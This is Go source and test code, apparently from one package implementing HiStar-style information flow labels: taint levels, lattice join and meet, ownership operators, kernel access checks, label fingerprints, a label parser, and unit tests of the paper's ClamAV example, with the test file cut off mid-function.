	return thread.Leq(obj) && obj.Leq(thread.RaiseJ())
}

// CanAllocate reports whether a thread with label thread and clearance clr
// may create an object with label obj: thread ⊑ obj ⊑ clr.
func CanAllocate(thread, clr, obj Label) bool {
	return thread.Leq(obj) && obj.Leq(clr)
}

// CanRaiseLabelTo reports whether a thread with label cur and clearance clr
// may change its own label to next: cur ⊑ next ⊑ clr (self_set_label).
func CanRaiseLabelTo(cur, clr, next Label) bool {
	return cur.Leq(next) && next.Leq(clr)
}

// CanSetClearanceTo reports whether a thread with label cur and clearance
// clr may change its clearance to next: cur ⊑ next ⊑ (clr ⊔ curᴶ)
// (self_set_clearance).
func CanSetClearanceTo(cur, clr, next Label) bool {
	return cur.Leq(next) && next.Leq(clr.Join(cur.RaiseJ()))
}

// MinObserveLabel returns the lowest label a thread labeled cur must raise
// itself to in order to observe an object labeled obj: (curᴶ ⊔ obj)⋆.
func MinObserveLabel(cur, obj Label) Label {
	return cur.RaiseJ().Join(obj).LowerStar()
}

// gateMinLevel is the pointwise level of the gate-entry minimum label
// (lᴶ ⊔ gᴶ)⋆ for a category at level lt in the thread label and lg in the
// gate label: ownership on either side survives as ⋆, otherwise the levels
// combine as a plain max.
func gateMinLevel(lt, lg Level) Level {
	return levelLowerStar(maxLevel(levelRaiseJ(lt), levelRaiseJ(lg)))
}

// GateMinLeq reports whether (lᴶ ⊔ gᴶ)⋆ ⊑ r, the minimum-label check of
// gate entry (Section 3.5: l is the invoking thread's label LT, g the gate
// label LG, r the requested label LR).  It computes the pointwise comparison
// directly as a three-way merge over the canonical slices, so — unlike
// materializing RaiseJ/Join/LowerStar — it allocates nothing.  Note the
// check does not decompose into l ⊑ r ∧ g ⊑ r: LowerStar is not monotone,
// so the combined form must be compared pointwise.
func GateMinLeq(l, g, r Label) bool {
	if gateMinLevel(l.def, g.def) > r.def {
		return false
	}
	lp, gp, rp := l.pairs, g.pairs, r.pairs
	i, j, k := 0, 0, 0
	for i < len(lp) || j < len(gp) || k < len(rp) {
		// Lowest category among the three heads.
		var c Category
		have := false
		if i < len(lp) {
			c, have = lp[i].Category, true
		}
		if j < len(gp) && (!have || gp[j].Category < c) {
			c, have = gp[j].Category, true
		}
		if k < len(rp) && (!have || rp[k].Category < c) {
			c = rp[k].Category
		}
		lt, lg, lr := l.def, g.def, r.def
		if i < len(lp) && lp[i].Category == c {
			lt = lp[i].Level
			i++
		}
		if j < len(gp) && gp[j].Category == c {
			lg = gp[j].Level
			j++
		}
		if k < len(rp) && rp[k].Category == c {
			lr = rp[k].Level
			k++
		}
		if gateMinLevel(lt, lg) > lr {
			return false
		}
	}
	return true
}

// ValidObjectLabel reports whether l is acceptable as the label of a
// non-thread, non-gate kernel object: no ⋆ or J entries anywhere.
func ValidObjectLabel(l Label) bool {
	if l.def == Star || l.def == HiStar {
		return false
	}
	return !l.hasLevel(Star) && !l.hasLevel(HiStar)
}

// ValidThreadLabel reports whether l is acceptable as a thread or gate
// label: ⋆ entries are allowed, J entries are not.
func ValidThreadLabel(l Label) bool {
	if l.def == HiStar || l.def == Star {
		// A default of ⋆ would mean owning every category ever allocated,
		// which the kernel never permits.
		return false
	}
	return !l.hasLevel(HiStar)
}

// ValidClearance reports whether c is acceptable as a clearance: numeric
// levels only (a clearance bounds taint; ownership lives in the label).
func ValidClearance(c Label) bool {
	if !c.def.Numeric() {
		return false
	}
	for _, p := range c.pairs {
		// Clearance entries of ⋆ never arise in the paper; reject them to
		// keep invariants simple.
		if !p.Level.Numeric() {
			return false
		}
	}
	return true
}
