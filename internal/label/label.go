// Package label implements the Asbestos-style information flow labels used
// by the HiStar kernel (Zeldovich et al., OSDI 2006, Section 2).
//
// A label is a function from categories to taint levels.  All but a small
// number of categories map to a default level (usually 1); the label stores
// only the exceptions.  Levels are ordered
//
//	⋆ < 0 < 1 < 2 < 3 < J
//
// where ⋆ ("Star") denotes ownership/untainting privilege and J ("HiStar")
// is the same ownership level treated as high during reads.  J never appears
// in stored labels; it exists only transiently during access checks.
//
// The package provides the ⊑ partial order (Leq), the lattice join ⊔ (Join)
// and meet ⊓ (Meet), the superscript-J and superscript-⋆ operators that
// shift ownership between its low and high readings, and the derived access
// checks used throughout the kernel (CanObserve, CanModify, CanAllocate,
// CanRaiseLabelTo, CanSetClearanceTo).
package label

import (
	"fmt"
	"sort"
	"strings"
)

// Level is a taint level in a label.
type Level uint8

// Taint levels, in increasing order.  Star compares below every numeric
// level and HiStar above every numeric level, implementing the paper's
// ⋆ < 0 < 1 < 2 < 3 < J ordering.
const (
	Star   Level = iota // ⋆: ownership / untainting privilege (low reading)
	L0                  // 0: cannot be written/modified by default
	L1                  // 1: default level, no restriction
	L2                  // 2: cannot be untainted/exported by default
	L3                  // 3: cannot be read/observed by default
	HiStar              // J: ownership treated as high; never stored in labels
)

// DefaultLevel is the conventional background taint level for objects.
const DefaultLevel = L1

// DefaultClearanceLevel is the conventional default clearance level for
// threads ({2} in the paper).
const DefaultClearanceLevel = L2

// String renders a level the way the paper writes it.
func (l Level) String() string {
	switch l {
	case Star:
		return "*"
	case HiStar:
		return "J"
	case L0, L1, L2, L3:
		return fmt.Sprintf("%d", int(l)-1)
	default:
		return fmt.Sprintf("Level(%d)", uint8(l))
	}
}

// Valid reports whether l is one of the six defined levels.
func (l Level) Valid() bool { return l <= HiStar }

// Numeric reports whether l is one of the four numeric levels 0..3.
func (l Level) Numeric() bool { return l >= L0 && l <= L3 }

// LevelFromInt converts the paper's numeric levels 0..3 into a Level.
func LevelFromInt(n int) (Level, error) {
	if n < 0 || n > 3 {
		return 0, fmt.Errorf("label: numeric level %d out of range [0,3]", n)
	}
	return Level(n + 1), nil
}

// Int returns the paper-facing integer for a numeric level, or -1 for Star
// and 4 for HiStar (their positions in the total order).
func (l Level) Int() int {
	switch l {
	case Star:
		return -1
	case HiStar:
		return 4
	default:
		return int(l) - 1
	}
}

// Label is an immutable mapping from categories to levels with a default
// level for all unlisted categories.  The zero value is not meaningful; use
// New or Parse.  Labels are value types: operations return new labels and
// never mutate their receivers, so a Label may be shared freely between
// goroutines.
type Label struct {
	def  Level
	cats map[Category]Level
}

// New returns a label with the given default level and explicit
// category/level pairs.  Pairs whose level equals the default are elided so
// that equal labels have identical representations.
func New(def Level, pairs ...Pair) Label {
	if !def.Valid() || def == HiStar {
		panic(fmt.Sprintf("label: invalid default level %v", def))
	}
	l := Label{def: def}
	for _, p := range pairs {
		if !p.Level.Valid() {
			panic(fmt.Sprintf("label: invalid level %v for category %v", p.Level, p.Category))
		}
		if p.Level == l.def {
			continue
		}
		if l.cats == nil {
			l.cats = make(map[Category]Level, len(pairs))
		}
		l.cats[p.Category] = p.Level
	}
	return l
}

// Pair is an explicit category/level entry used when constructing labels.
type Pair struct {
	Category Category
	Level    Level
}

// P is shorthand for constructing a Pair.
func P(c Category, l Level) Pair { return Pair{Category: c, Level: l} }

// Default returns the label's default level.
func (l Label) Default() Level { return l.def }

// Get returns the level of category c.
func (l Label) Get(c Category) Level {
	if lv, ok := l.cats[c]; ok {
		return lv
	}
	return l.def
}

// Explicit returns the categories whose level differs from the default, in
// ascending category order.
func (l Label) Explicit() []Category {
	out := make([]Category, 0, len(l.cats))
	for c := range l.cats {
		out = append(out, c)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// NumExplicit returns the number of categories mapped away from the default.
func (l Label) NumExplicit() int { return len(l.cats) }

// With returns a copy of l with category c set to level lv.
func (l Label) With(c Category, lv Level) Label {
	if !lv.Valid() {
		panic(fmt.Sprintf("label: invalid level %v", lv))
	}
	out := l.clone()
	if lv == out.def {
		delete(out.cats, c)
	} else {
		if out.cats == nil {
			out.cats = make(map[Category]Level, 1)
		}
		out.cats[c] = lv
	}
	return out
}

// Without returns a copy of l with category c reset to the default level.
func (l Label) Without(c Category) Label {
	out := l.clone()
	delete(out.cats, c)
	return out
}

// WithDefault returns a copy of l whose default level is def.  Categories
// previously at the old default remain at the old default (they become
// explicit entries), so the label denotes the same function except for
// categories never mentioned.
func (l Label) WithDefault(def Level) Label {
	if !def.Valid() || def == HiStar {
		panic(fmt.Sprintf("label: invalid default level %v", def))
	}
	out := Label{def: def}
	if len(l.cats) > 0 || l.def != def {
		out.cats = make(map[Category]Level, len(l.cats))
		for c, lv := range l.cats {
			if lv != def {
				out.cats[c] = lv
			}
		}
	}
	return out
}

func (l Label) clone() Label {
	out := Label{def: l.def}
	if len(l.cats) > 0 {
		out.cats = make(map[Category]Level, len(l.cats))
		for c, lv := range l.cats {
			out.cats[c] = lv
		}
	}
	return out
}

// Equal reports whether two labels denote the same function.
func (l Label) Equal(m Label) bool {
	if l.def != m.def || len(l.cats) != len(m.cats) {
		return false
	}
	for c, lv := range l.cats {
		if m.Get(c) != lv {
			return false
		}
	}
	return true
}

// HasStar reports whether the label maps any category to ⋆ (ownership).
// Only thread and gate labels may contain ⋆; the kernel enforces this.
func (l Label) HasStar() bool {
	if l.def == Star {
		return true
	}
	for _, lv := range l.cats {
		if lv == Star {
			return true
		}
	}
	return false
}

// Owns reports whether the label maps category c to ⋆.
func (l Label) Owns(c Category) bool { return l.Get(c) == Star }

// Owned returns the categories the label owns (maps to ⋆), sorted.
func (l Label) Owned() []Category {
	var out []Category
	for c, lv := range l.cats {
		if lv == Star {
			out = append(out, c)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// RaiseJ returns the superscript-J form Lᴶ: every ⋆ becomes J.  Used when
// the owning thread is reading, so ownership is treated as high.
func (l Label) RaiseJ() Label {
	return l.mapLevels(func(lv Level) Level {
		if lv == Star {
			return HiStar
		}
		return lv
	})
}

// LowerStar returns the superscript-⋆ form L⋆: every J becomes ⋆.  Used to
// translate a join result back into a storable label.
func (l Label) LowerStar() Label {
	return l.mapLevels(func(lv Level) Level {
		if lv == HiStar {
			return Star
		}
		return lv
	})
}

func (l Label) mapLevels(f func(Level) Level) Label {
	out := Label{def: f(l.def)}
	if len(l.cats) > 0 {
		out.cats = make(map[Category]Level, len(l.cats))
		for c, lv := range l.cats {
			nl := f(lv)
			if nl != out.def {
				out.cats[c] = nl
			}
		}
	}
	return out
}

// Leq reports the ⊑ relation: l ⊑ m iff for every category c,
// l(c) ≤ m(c) in the order ⋆ < 0 < 1 < 2 < 3 < J.
func (l Label) Leq(m Label) bool {
	if l.def > m.def {
		return false
	}
	for c, lv := range l.cats {
		if lv > m.Get(c) {
			return false
		}
	}
	// Categories explicit only in m: compare l's default against them.
	for c, mv := range m.cats {
		if _, ok := l.cats[c]; ok {
			continue
		}
		if l.def > mv {
			return false
		}
	}
	return true
}

// Join returns the least upper bound l ⊔ m: pointwise maximum of levels.
func (l Label) Join(m Label) Label {
	def := maxLevel(l.def, m.def)
	out := Label{def: def}
	set := func(c Category, lv Level) {
		if lv == out.def {
			return
		}
		if out.cats == nil {
			out.cats = make(map[Category]Level)
		}
		out.cats[c] = lv
	}
	for c, lv := range l.cats {
		set(c, maxLevel(lv, m.Get(c)))
	}
	for c, mv := range m.cats {
		if _, ok := l.cats[c]; ok {
			continue
		}
		set(c, maxLevel(mv, l.def))
	}
	return out
}

// Meet returns the greatest lower bound l ⊓ m: pointwise minimum of levels.
func (l Label) Meet(m Label) Label {
	def := minLevel(l.def, m.def)
	out := Label{def: def}
	set := func(c Category, lv Level) {
		if lv == out.def {
			return
		}
		if out.cats == nil {
			out.cats = make(map[Category]Level)
		}
		out.cats[c] = lv
	}
	for c, lv := range l.cats {
		set(c, minLevel(lv, m.Get(c)))
	}
	for c, mv := range m.cats {
		if _, ok := l.cats[c]; ok {
			continue
		}
		set(c, minLevel(mv, l.def))
	}
	return out
}

func maxLevel(a, b Level) Level {
	if a > b {
		return a
	}
	return b
}

func minLevel(a, b Level) Level {
	if a < b {
		return a
	}
	return b
}

// String renders the label in the paper's notation, e.g. {br*, v3, 1}.
// Categories are printed as cN where N is the category identifier, unless a
// name has been registered with the category allocator that produced them;
// use Format with a Namer for symbolic output.
func (l Label) String() string { return l.Format(nil) }

// Namer maps categories to human-readable names for display.
type Namer interface {
	CategoryName(Category) (string, bool)
}

// Format renders the label using names from the (optional) Namer.
func (l Label) Format(n Namer) string {
	var b strings.Builder
	b.WriteByte('{')
	cats := l.Explicit()
	for _, c := range cats {
		name := fmt.Sprintf("c%d", uint64(c))
		if n != nil {
			if s, ok := n.CategoryName(c); ok {
				name = s
			}
		}
		fmt.Fprintf(&b, "%s%s, ", name, l.Get(c).String())
	}
	b.WriteString(l.def.String())
	b.WriteByte('}')
	return b.String()
}

// ---------------------------------------------------------------------------
// Derived access checks (Section 2.2 and Section 3 of the paper).
// ---------------------------------------------------------------------------

// CanObserve reports whether a thread labeled thread may observe (read) an
// object labeled obj: obj ⊑ threadᴶ ("no read up").
func CanObserve(thread, obj Label) bool {
	return obj.Leq(thread.RaiseJ())
}

// CanModify reports whether a thread labeled thread may modify an object
// labeled obj, which in HiStar implies observing it:
// thread ⊑ obj ⊑ threadᴶ ("no write down").
func CanModify(thread, obj Label) bool {
	return thread.Leq(obj) && obj.Leq(thread.RaiseJ())
}

// CanAllocate reports whether a thread with label thread and clearance clr
// may create an object with label obj: thread ⊑ obj ⊑ clr.
func CanAllocate(thread, clr, obj Label) bool {
	return thread.Leq(obj) && obj.Leq(clr)
}

// CanRaiseLabelTo reports whether a thread with label cur and clearance clr
// may change its own label to next: cur ⊑ next ⊑ clr (self_set_label).
func CanRaiseLabelTo(cur, clr, next Label) bool {
	return cur.Leq(next) && next.Leq(clr)
}

// CanSetClearanceTo reports whether a thread with label cur and clearance
// clr may change its clearance to next: cur ⊑ next ⊑ (clr ⊔ curᴶ)
// (self_set_clearance).
func CanSetClearanceTo(cur, clr, next Label) bool {
	return cur.Leq(next) && next.Leq(clr.Join(cur.RaiseJ()))
}

// MinObserveLabel returns the lowest label a thread labeled cur must raise
// itself to in order to observe an object labeled obj: (curᴶ ⊔ obj)⋆.
func MinObserveLabel(cur, obj Label) Label {
	return cur.RaiseJ().Join(obj).LowerStar()
}

// ValidObjectLabel reports whether l is acceptable as the label of a
// non-thread, non-gate kernel object: no ⋆ or J entries anywhere.
func ValidObjectLabel(l Label) bool {
	if l.def == Star || l.def == HiStar {
		return false
	}
	for _, lv := range l.cats {
		if lv == Star || lv == HiStar {
			return false
		}
	}
	return true
}

// ValidThreadLabel reports whether l is acceptable as a thread or gate
// label: ⋆ entries are allowed, J entries are not.
func ValidThreadLabel(l Label) bool {
	if l.def == HiStar || l.def == Star {
		// A default of ⋆ would mean owning every category ever allocated,
		// which the kernel never permits.
		return false
	}
	for _, lv := range l.cats {
		if lv == HiStar {
			return false
		}
	}
	return true
}

// ValidClearance reports whether c is acceptable as a clearance: numeric
// levels only (a clearance bounds taint; ownership lives in the label).
func ValidClearance(c Label) bool {
	if !c.def.Numeric() {
		return false
	}
	for _, lv := range c.cats {
		if !lv.Numeric() && lv != Star {
			return false
		}
		// Clearance entries of ⋆ never arise in the paper; treat them as 3
		// when comparing, but reject them here to keep invariants simple.
		if lv == Star {
			return false
		}
	}
	return true
}
