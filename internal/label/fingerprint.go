package label

// Fingerprint is a compact identity for an immutable label, used as a cache
// key.  Labels with the same fingerprint are Equal with overwhelming
// probability; the kernel only caches comparisons between labels of
// immutable objects, exactly as Section 4 describes.
//
// A fingerprint is the FNV-1a digest of the label's canonical form (the
// default level followed by the sorted category/level pairs).  Because the
// representation is canonical, the digest is computed exactly once, at
// construction, and stored in the Label; Fingerprint is a field read.
type Fingerprint uint64

const (
	fnvOffset64 = 14695981039346656037
	fnvPrime64  = 1099511628211
)

func fnvByte(h uint64, b byte) uint64 {
	return (h ^ uint64(b)) * fnvPrime64
}

func fnvU64(h uint64, v uint64) uint64 {
	// Little-endian byte order, matching encoding/binary.LittleEndian.
	for i := 0; i < 8; i++ {
		h = fnvByte(h, byte(v>>(8*i)))
	}
	return h
}

// fingerprintCanonical digests a canonical pair slice under the level
// mapping f.  Entries whose mapped level equals the mapped default are
// elided so the digest equals the fingerprint of the mapped label's
// canonical form; with the identity mapping no elision ever occurs.
func fingerprintCanonical(def Level, pairs []Pair, f func(Level) Level) Fingerprint {
	mdef := f(def)
	h := fnvByte(fnvOffset64, byte(mdef))
	for _, p := range pairs {
		lv := f(p.Level)
		if lv == mdef {
			continue
		}
		h = fnvU64(h, uint64(p.Category))
		h = fnvByte(h, byte(lv))
	}
	return Fingerprint(h)
}

// Fingerprint returns the label's stored fingerprint.  For the zero Label
// (which never went through a constructor) it is computed on the fly.
func (l Label) Fingerprint() Fingerprint {
	if l.fp != 0 {
		return l.fp
	}
	return fingerprintCanonical(l.def, l.pairs, levelIdentity)
}

// RaisedFingerprint returns the fingerprint of the superscript-J form Lᴶ,
// precomputed at construction.  The cached access checks key on it directly,
// so a CanObserve cache hit never materializes Lᴶ.
func (l Label) RaisedFingerprint() Fingerprint {
	if l.fpJ != 0 {
		return l.fpJ
	}
	return fingerprintCanonical(l.def, l.pairs, levelRaiseJ)
}
