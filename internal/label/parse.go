package label

import (
	"fmt"
	"strconv"
	"strings"
)

// Parse parses a label written in the paper's notation, for example
//
//	{c17 3, c42 *, 1}
//	{c17:3, c42:*, 1}
//	{1}
//
// Categories are written cN (N the numeric identifier) and may be separated
// from their level by whitespace or a colon.  The final element is the
// default level.  Symbolic category names are resolved through the optional
// resolver; pass nil to accept only numeric cN categories.
func Parse(s string, resolver func(name string) (Category, bool)) (Label, error) {
	t := strings.TrimSpace(s)
	if len(t) < 2 || t[0] != '{' || t[len(t)-1] != '}' {
		return Label{}, fmt.Errorf("label: %q is not wrapped in braces", s)
	}
	inner := strings.TrimSpace(t[1 : len(t)-1])
	if inner == "" {
		return Label{}, fmt.Errorf("label: %q has no default level", s)
	}
	parts := strings.Split(inner, ",")
	defStr := strings.TrimSpace(parts[len(parts)-1])
	def, err := parseLevel(defStr)
	if err != nil {
		return Label{}, fmt.Errorf("label: bad default level %q: %w", defStr, err)
	}
	if def == Star || def == HiStar {
		return Label{}, fmt.Errorf("label: default level must be numeric, got %q", defStr)
	}
	var pairs []Pair
	for _, part := range parts[:len(parts)-1] {
		part = strings.TrimSpace(part)
		if part == "" {
			return Label{}, fmt.Errorf("label: empty entry in %q", s)
		}
		cat, lvl, err := parseEntry(part, resolver)
		if err != nil {
			return Label{}, err
		}
		pairs = append(pairs, P(cat, lvl))
	}
	return New(def, pairs...), nil
}

// MustParse is Parse but panics on error; intended for tests and examples.
func MustParse(s string, resolver func(name string) (Category, bool)) Label {
	l, err := Parse(s, resolver)
	if err != nil {
		panic(err)
	}
	return l
}

func parseEntry(s string, resolver func(string) (Category, bool)) (Category, Level, error) {
	// Accept "name level", "name:level", or "nameLEVEL" where LEVEL is the
	// final rune and is one of *, J, 0..3 (matches how the paper typesets
	// entries like "br3" or "v⋆").
	var namePart, levelPart string
	if i := strings.IndexAny(s, ": \t"); i >= 0 {
		namePart = strings.TrimSpace(s[:i])
		levelPart = strings.TrimSpace(s[i+1:])
	} else {
		namePart = strings.TrimSpace(s[:len(s)-1])
		levelPart = s[len(s)-1:]
	}
	if namePart == "" || levelPart == "" {
		return 0, 0, fmt.Errorf("label: cannot parse entry %q", s)
	}
	lvl, err := parseLevel(levelPart)
	if err != nil {
		return 0, 0, fmt.Errorf("label: bad level in entry %q: %w", s, err)
	}
	cat, err := parseCategory(namePart, resolver)
	if err != nil {
		return 0, 0, err
	}
	return cat, lvl, nil
}

func parseCategory(name string, resolver func(string) (Category, bool)) (Category, error) {
	if resolver != nil {
		if c, ok := resolver(name); ok {
			return c, nil
		}
	}
	if strings.HasPrefix(name, "c") {
		if n, err := strconv.ParseUint(name[1:], 10, 64); err == nil {
			c := Category(n)
			if !c.Valid() {
				return 0, fmt.Errorf("label: category %q exceeds 61 bits", name)
			}
			return c, nil
		}
	}
	return 0, fmt.Errorf("label: unknown category %q", name)
}

func parseLevel(s string) (Level, error) {
	switch strings.TrimSpace(s) {
	case "*", "⋆", "star", "Star":
		return Star, nil
	case "J", "j", "histar", "HiStar":
		return HiStar, nil
	case "0":
		return L0, nil
	case "1":
		return L1, nil
	case "2":
		return L2, nil
	case "3":
		return L3, nil
	}
	return 0, fmt.Errorf("unrecognized level %q", s)
}
