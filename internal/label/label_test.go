package label

import (
	"testing"
)

// catN returns a deterministic fake category for tests.
func catN(n uint64) Category { return Category(n) }

func TestLevelOrdering(t *testing.T) {
	order := []Level{Star, L0, L1, L2, L3, HiStar}
	for i, a := range order {
		for j, b := range order {
			if (a < b) != (i < j) {
				t.Errorf("level ordering broken: %v < %v should be %v", a, b, i < j)
			}
		}
	}
}

func TestLevelString(t *testing.T) {
	cases := map[Level]string{Star: "*", L0: "0", L1: "1", L2: "2", L3: "3", HiStar: "J"}
	for lv, want := range cases {
		if got := lv.String(); got != want {
			t.Errorf("Level(%d).String() = %q, want %q", lv, got, want)
		}
	}
}

func TestLevelFromInt(t *testing.T) {
	for n := 0; n <= 3; n++ {
		lv, err := LevelFromInt(n)
		if err != nil {
			t.Fatalf("LevelFromInt(%d): %v", n, err)
		}
		if lv.Int() != n {
			t.Errorf("LevelFromInt(%d).Int() = %d", n, lv.Int())
		}
	}
	if _, err := LevelFromInt(4); err == nil {
		t.Error("LevelFromInt(4) should fail")
	}
	if _, err := LevelFromInt(-1); err == nil {
		t.Error("LevelFromInt(-1) should fail")
	}
}

func TestNewElidesDefaultEntries(t *testing.T) {
	c := catN(7)
	l := New(L1, P(c, L1))
	if l.NumExplicit() != 0 {
		t.Errorf("entry at default level should be elided, got %d explicit", l.NumExplicit())
	}
	if l.Get(c) != L1 {
		t.Errorf("Get = %v, want L1", l.Get(c))
	}
}

func TestGetDefault(t *testing.T) {
	l := New(L2)
	if got := l.Get(catN(99)); got != L2 {
		t.Errorf("unlisted category level = %v, want default L2", got)
	}
	if l.Default() != L2 {
		t.Errorf("Default() = %v", l.Default())
	}
}

func TestWithWithout(t *testing.T) {
	c := catN(5)
	l := New(L1)
	l2 := l.With(c, L3)
	if l.Get(c) != L1 {
		t.Error("With must not mutate the receiver")
	}
	if l2.Get(c) != L3 {
		t.Errorf("With: got %v", l2.Get(c))
	}
	l3 := l2.Without(c)
	if l3.Get(c) != L1 {
		t.Errorf("Without: got %v", l3.Get(c))
	}
	if !l3.Equal(l) {
		t.Error("Without should restore the original label")
	}
	// Setting to default removes the explicit entry.
	l4 := l2.With(c, L1)
	if l4.NumExplicit() != 0 {
		t.Error("With(default) should elide the entry")
	}
}

func TestWithDefault(t *testing.T) {
	c := catN(3)
	l := New(L1, P(c, L3))
	m := l.WithDefault(L2)
	if m.Default() != L2 {
		t.Errorf("default = %v", m.Default())
	}
	if m.Get(c) != L3 {
		t.Errorf("explicit entry lost: %v", m.Get(c))
	}
	// A category at the old default stays at... the new default, since it was
	// never explicit.  Document the behaviour.
	if m.Get(catN(1000)) != L2 {
		t.Errorf("unlisted category should follow the new default")
	}
}

func TestEqual(t *testing.T) {
	a, b := catN(1), catN(2)
	l1 := New(L1, P(a, L3), P(b, L0))
	l2 := New(L1, P(b, L0), P(a, L3))
	if !l1.Equal(l2) {
		t.Error("labels with same entries in different order must be equal")
	}
	l3 := New(L1, P(a, L3))
	if l1.Equal(l3) {
		t.Error("different labels must not be equal")
	}
	l4 := New(L2, P(a, L3), P(b, L0))
	if l1.Equal(l4) {
		t.Error("different defaults must not be equal")
	}
}

func TestLeqBasic(t *testing.T) {
	// Paper Section 2: LT = {1}, LO = {c3, 1}: information may not flow from
	// O to T, i.e. NOT (LO ⊑ LT), but LT ⊑ LO.
	c := catN(10)
	lt := New(L1)
	lo := New(L1, P(c, L3))
	if lo.Leq(lt) {
		t.Error("{c3,1} ⊑ {1} should be false")
	}
	if !lt.Leq(lo) {
		t.Error("{1} ⊑ {c3,1} should be true")
	}

	// O' = {c0, 1}: no information can flow from T to O'.
	lo2 := New(L1, P(c, L0))
	if lt.Leq(lo2) {
		t.Error("{1} ⊑ {c0,1} should be false")
	}
	if !lo2.Leq(lt) {
		t.Error("{c0,1} ⊑ {1} should be true")
	}
}

func TestLeqDefaultsOnly(t *testing.T) {
	if !New(L1).Leq(New(L3)) {
		t.Error("{1} ⊑ {3}")
	}
	if New(L3).Leq(New(L1)) {
		t.Error("{3} ⊑ {1} should fail")
	}
	if !New(L2).Leq(New(L2)) {
		t.Error("reflexivity on defaults")
	}
}

func TestLeqExplicitOnlyInRHS(t *testing.T) {
	// l={2}, m={c0, 2}: l(c)=2 > 0=m(c) so l ⊑ m must fail.
	c := catN(4)
	l := New(L2)
	m := New(L2, P(c, L0))
	if l.Leq(m) {
		t.Error("{2} ⊑ {c0,2} should be false")
	}
	if !m.Leq(l) {
		t.Error("{c0,2} ⊑ {2} should be true")
	}
}

func TestJoinMeet(t *testing.T) {
	a, b := catN(1), catN(2)
	l1 := New(L1, P(a, L3))
	l2 := New(L1, P(b, L0))
	j := l1.Join(l2)
	if j.Get(a) != L3 || j.Get(b) != L1 || j.Default() != L1 {
		t.Errorf("join wrong: %v", j)
	}
	m := l1.Meet(l2)
	if m.Get(a) != L1 || m.Get(b) != L0 || m.Default() != L1 {
		t.Errorf("meet wrong: %v", m)
	}
}

func TestJoinWithDifferentDefaults(t *testing.T) {
	a := catN(1)
	l1 := New(L1, P(a, L0)) // {a0, 1}
	l2 := New(L2)           // {2}
	j := l1.Join(l2)
	if j.Default() != L2 {
		t.Errorf("join default = %v, want 2", j.Default())
	}
	if j.Get(a) != L2 {
		t.Errorf("join(a) = %v, want 2 (max(0, default 2))", j.Get(a))
	}
	m := l1.Meet(l2)
	if m.Default() != L1 {
		t.Errorf("meet default = %v, want 1", m.Default())
	}
	if m.Get(a) != L0 {
		t.Errorf("meet(a) = %v, want 0", m.Get(a))
	}
}

func TestRaiseJLowerStar(t *testing.T) {
	a, b := catN(1), catN(2)
	l := New(L1, P(a, Star), P(b, L3))
	j := l.RaiseJ()
	if j.Get(a) != HiStar || j.Get(b) != L3 {
		t.Errorf("RaiseJ wrong: %v", j)
	}
	back := j.LowerStar()
	if !back.Equal(l) {
		t.Errorf("LowerStar(RaiseJ(l)) != l: %v vs %v", back, l)
	}
}

func TestOwnership(t *testing.T) {
	a, b := catN(1), catN(2)
	l := New(L1, P(a, Star), P(b, L3))
	if !l.Owns(a) || l.Owns(b) {
		t.Error("Owns wrong")
	}
	if !l.HasStar() {
		t.Error("HasStar should be true")
	}
	owned := l.Owned()
	if len(owned) != 1 || owned[0] != a {
		t.Errorf("Owned = %v", owned)
	}
	if New(L1).HasStar() {
		t.Error("plain label should not have star")
	}
}

// TestPaperClamAVScenario reproduces the ClamAV label topology of Figure 4
// and checks the flows the paper claims are allowed or blocked.
func TestPaperClamAVScenario(t *testing.T) {
	br := catN(101) // Bob's read category
	bw := catN(102) // Bob's write category
	v := catN(103)  // wrap's isolation category

	userData := New(L1, P(bw, L0), P(br, L3)) // {bw0, br3, 1}
	wrap := New(L1, P(br, Star), P(v, Star))  // {br*, v*, 1}
	scanner := New(L1, P(br, L3), P(v, L3))   // {br3, v3, 1}
	helper := scanner
	privateTmp := New(L1, P(br, Star), P(v, L3)) // as in Fig 4: {br*, v3, 1}... containers
	_ = privateTmp
	updateDaemon := New(L1) // {1}
	network := New(L1)      // {1}
	tty := New(L1)

	// wrap can observe user data (owns br).
	if !CanObserve(wrap, userData) {
		t.Error("wrap must be able to observe user data")
	}
	// The scanner, tainted br3 v3, can observe user data.
	if !CanObserve(scanner, userData) {
		t.Error("scanner must be able to read user data once tainted")
	}
	// The scanner cannot modify user data (v taint, bw).
	if CanModify(scanner, userData) {
		t.Error("scanner must not modify user data")
	}
	// The scanner cannot write to the network or update daemon ({1}).
	if CanModify(scanner, network) {
		t.Error("scanner must not write to the network")
	}
	if CanModify(scanner, updateDaemon) {
		t.Error("scanner must not signal the update daemon")
	}
	if CanModify(helper, tty) {
		t.Error("helper must not write the TTY")
	}
	// The update daemon cannot observe user data (no br ownership, br3).
	if CanObserve(updateDaemon, userData) {
		t.Error("update daemon must not read user data")
	}
	// wrap CAN write to the TTY: it owns v and br, and is untainted elsewhere.
	if !CanModify(wrap, tty) {
		t.Error("wrap must be able to write the TTY")
	}
	// The update daemon can write the virus DB {1} and read the network.
	virusDB := New(L1)
	if !CanModify(updateDaemon, virusDB) || !CanObserve(updateDaemon, network) {
		t.Error("update daemon must keep functioning")
	}
}

func TestCanAllocateAndClearance(t *testing.T) {
	c := catN(9)
	lt := New(L1)
	ct := New(L2)
	// Allocation within [LT, CT] is allowed.
	if !CanAllocate(lt, ct, New(L1, P(c, L2))) {
		t.Error("allocation at clearance boundary should work")
	}
	// Above clearance: denied.
	if CanAllocate(lt, ct, New(L1, P(c, L3))) {
		t.Error("allocation above clearance must fail")
	}
	// Below own label: denied (cannot create less-tainted objects).
	if CanAllocate(New(L1, P(c, L2)), New(L2, P(c, L3)), New(L1)) {
		t.Error("allocation below own label must fail")
	}
}

func TestSelfSetLabelRules(t *testing.T) {
	c := catN(11)
	lt := New(L1)
	ct := New(L2)
	// Raising to {c2, 1} is allowed (within clearance).
	if !CanRaiseLabelTo(lt, ct, New(L1, P(c, L2))) {
		t.Error("raise to c2 should be allowed")
	}
	// Raising to {c3, 1} exceeds the default clearance {2}.
	if CanRaiseLabelTo(lt, ct, New(L1, P(c, L3))) {
		t.Error("raise to c3 should exceed clearance")
	}
	// Lowering the label is never allowed without ownership.
	if CanRaiseLabelTo(New(L1, P(c, L2)), ct, New(L1)) {
		t.Error("lowering a label must fail")
	}
	// A thread owning c may raise clearance in c.
	owner := New(L1, P(c, Star))
	if !CanSetClearanceTo(owner, New(L2), New(L2, P(c, L3))) {
		t.Error("owner should be able to raise clearance in its category")
	}
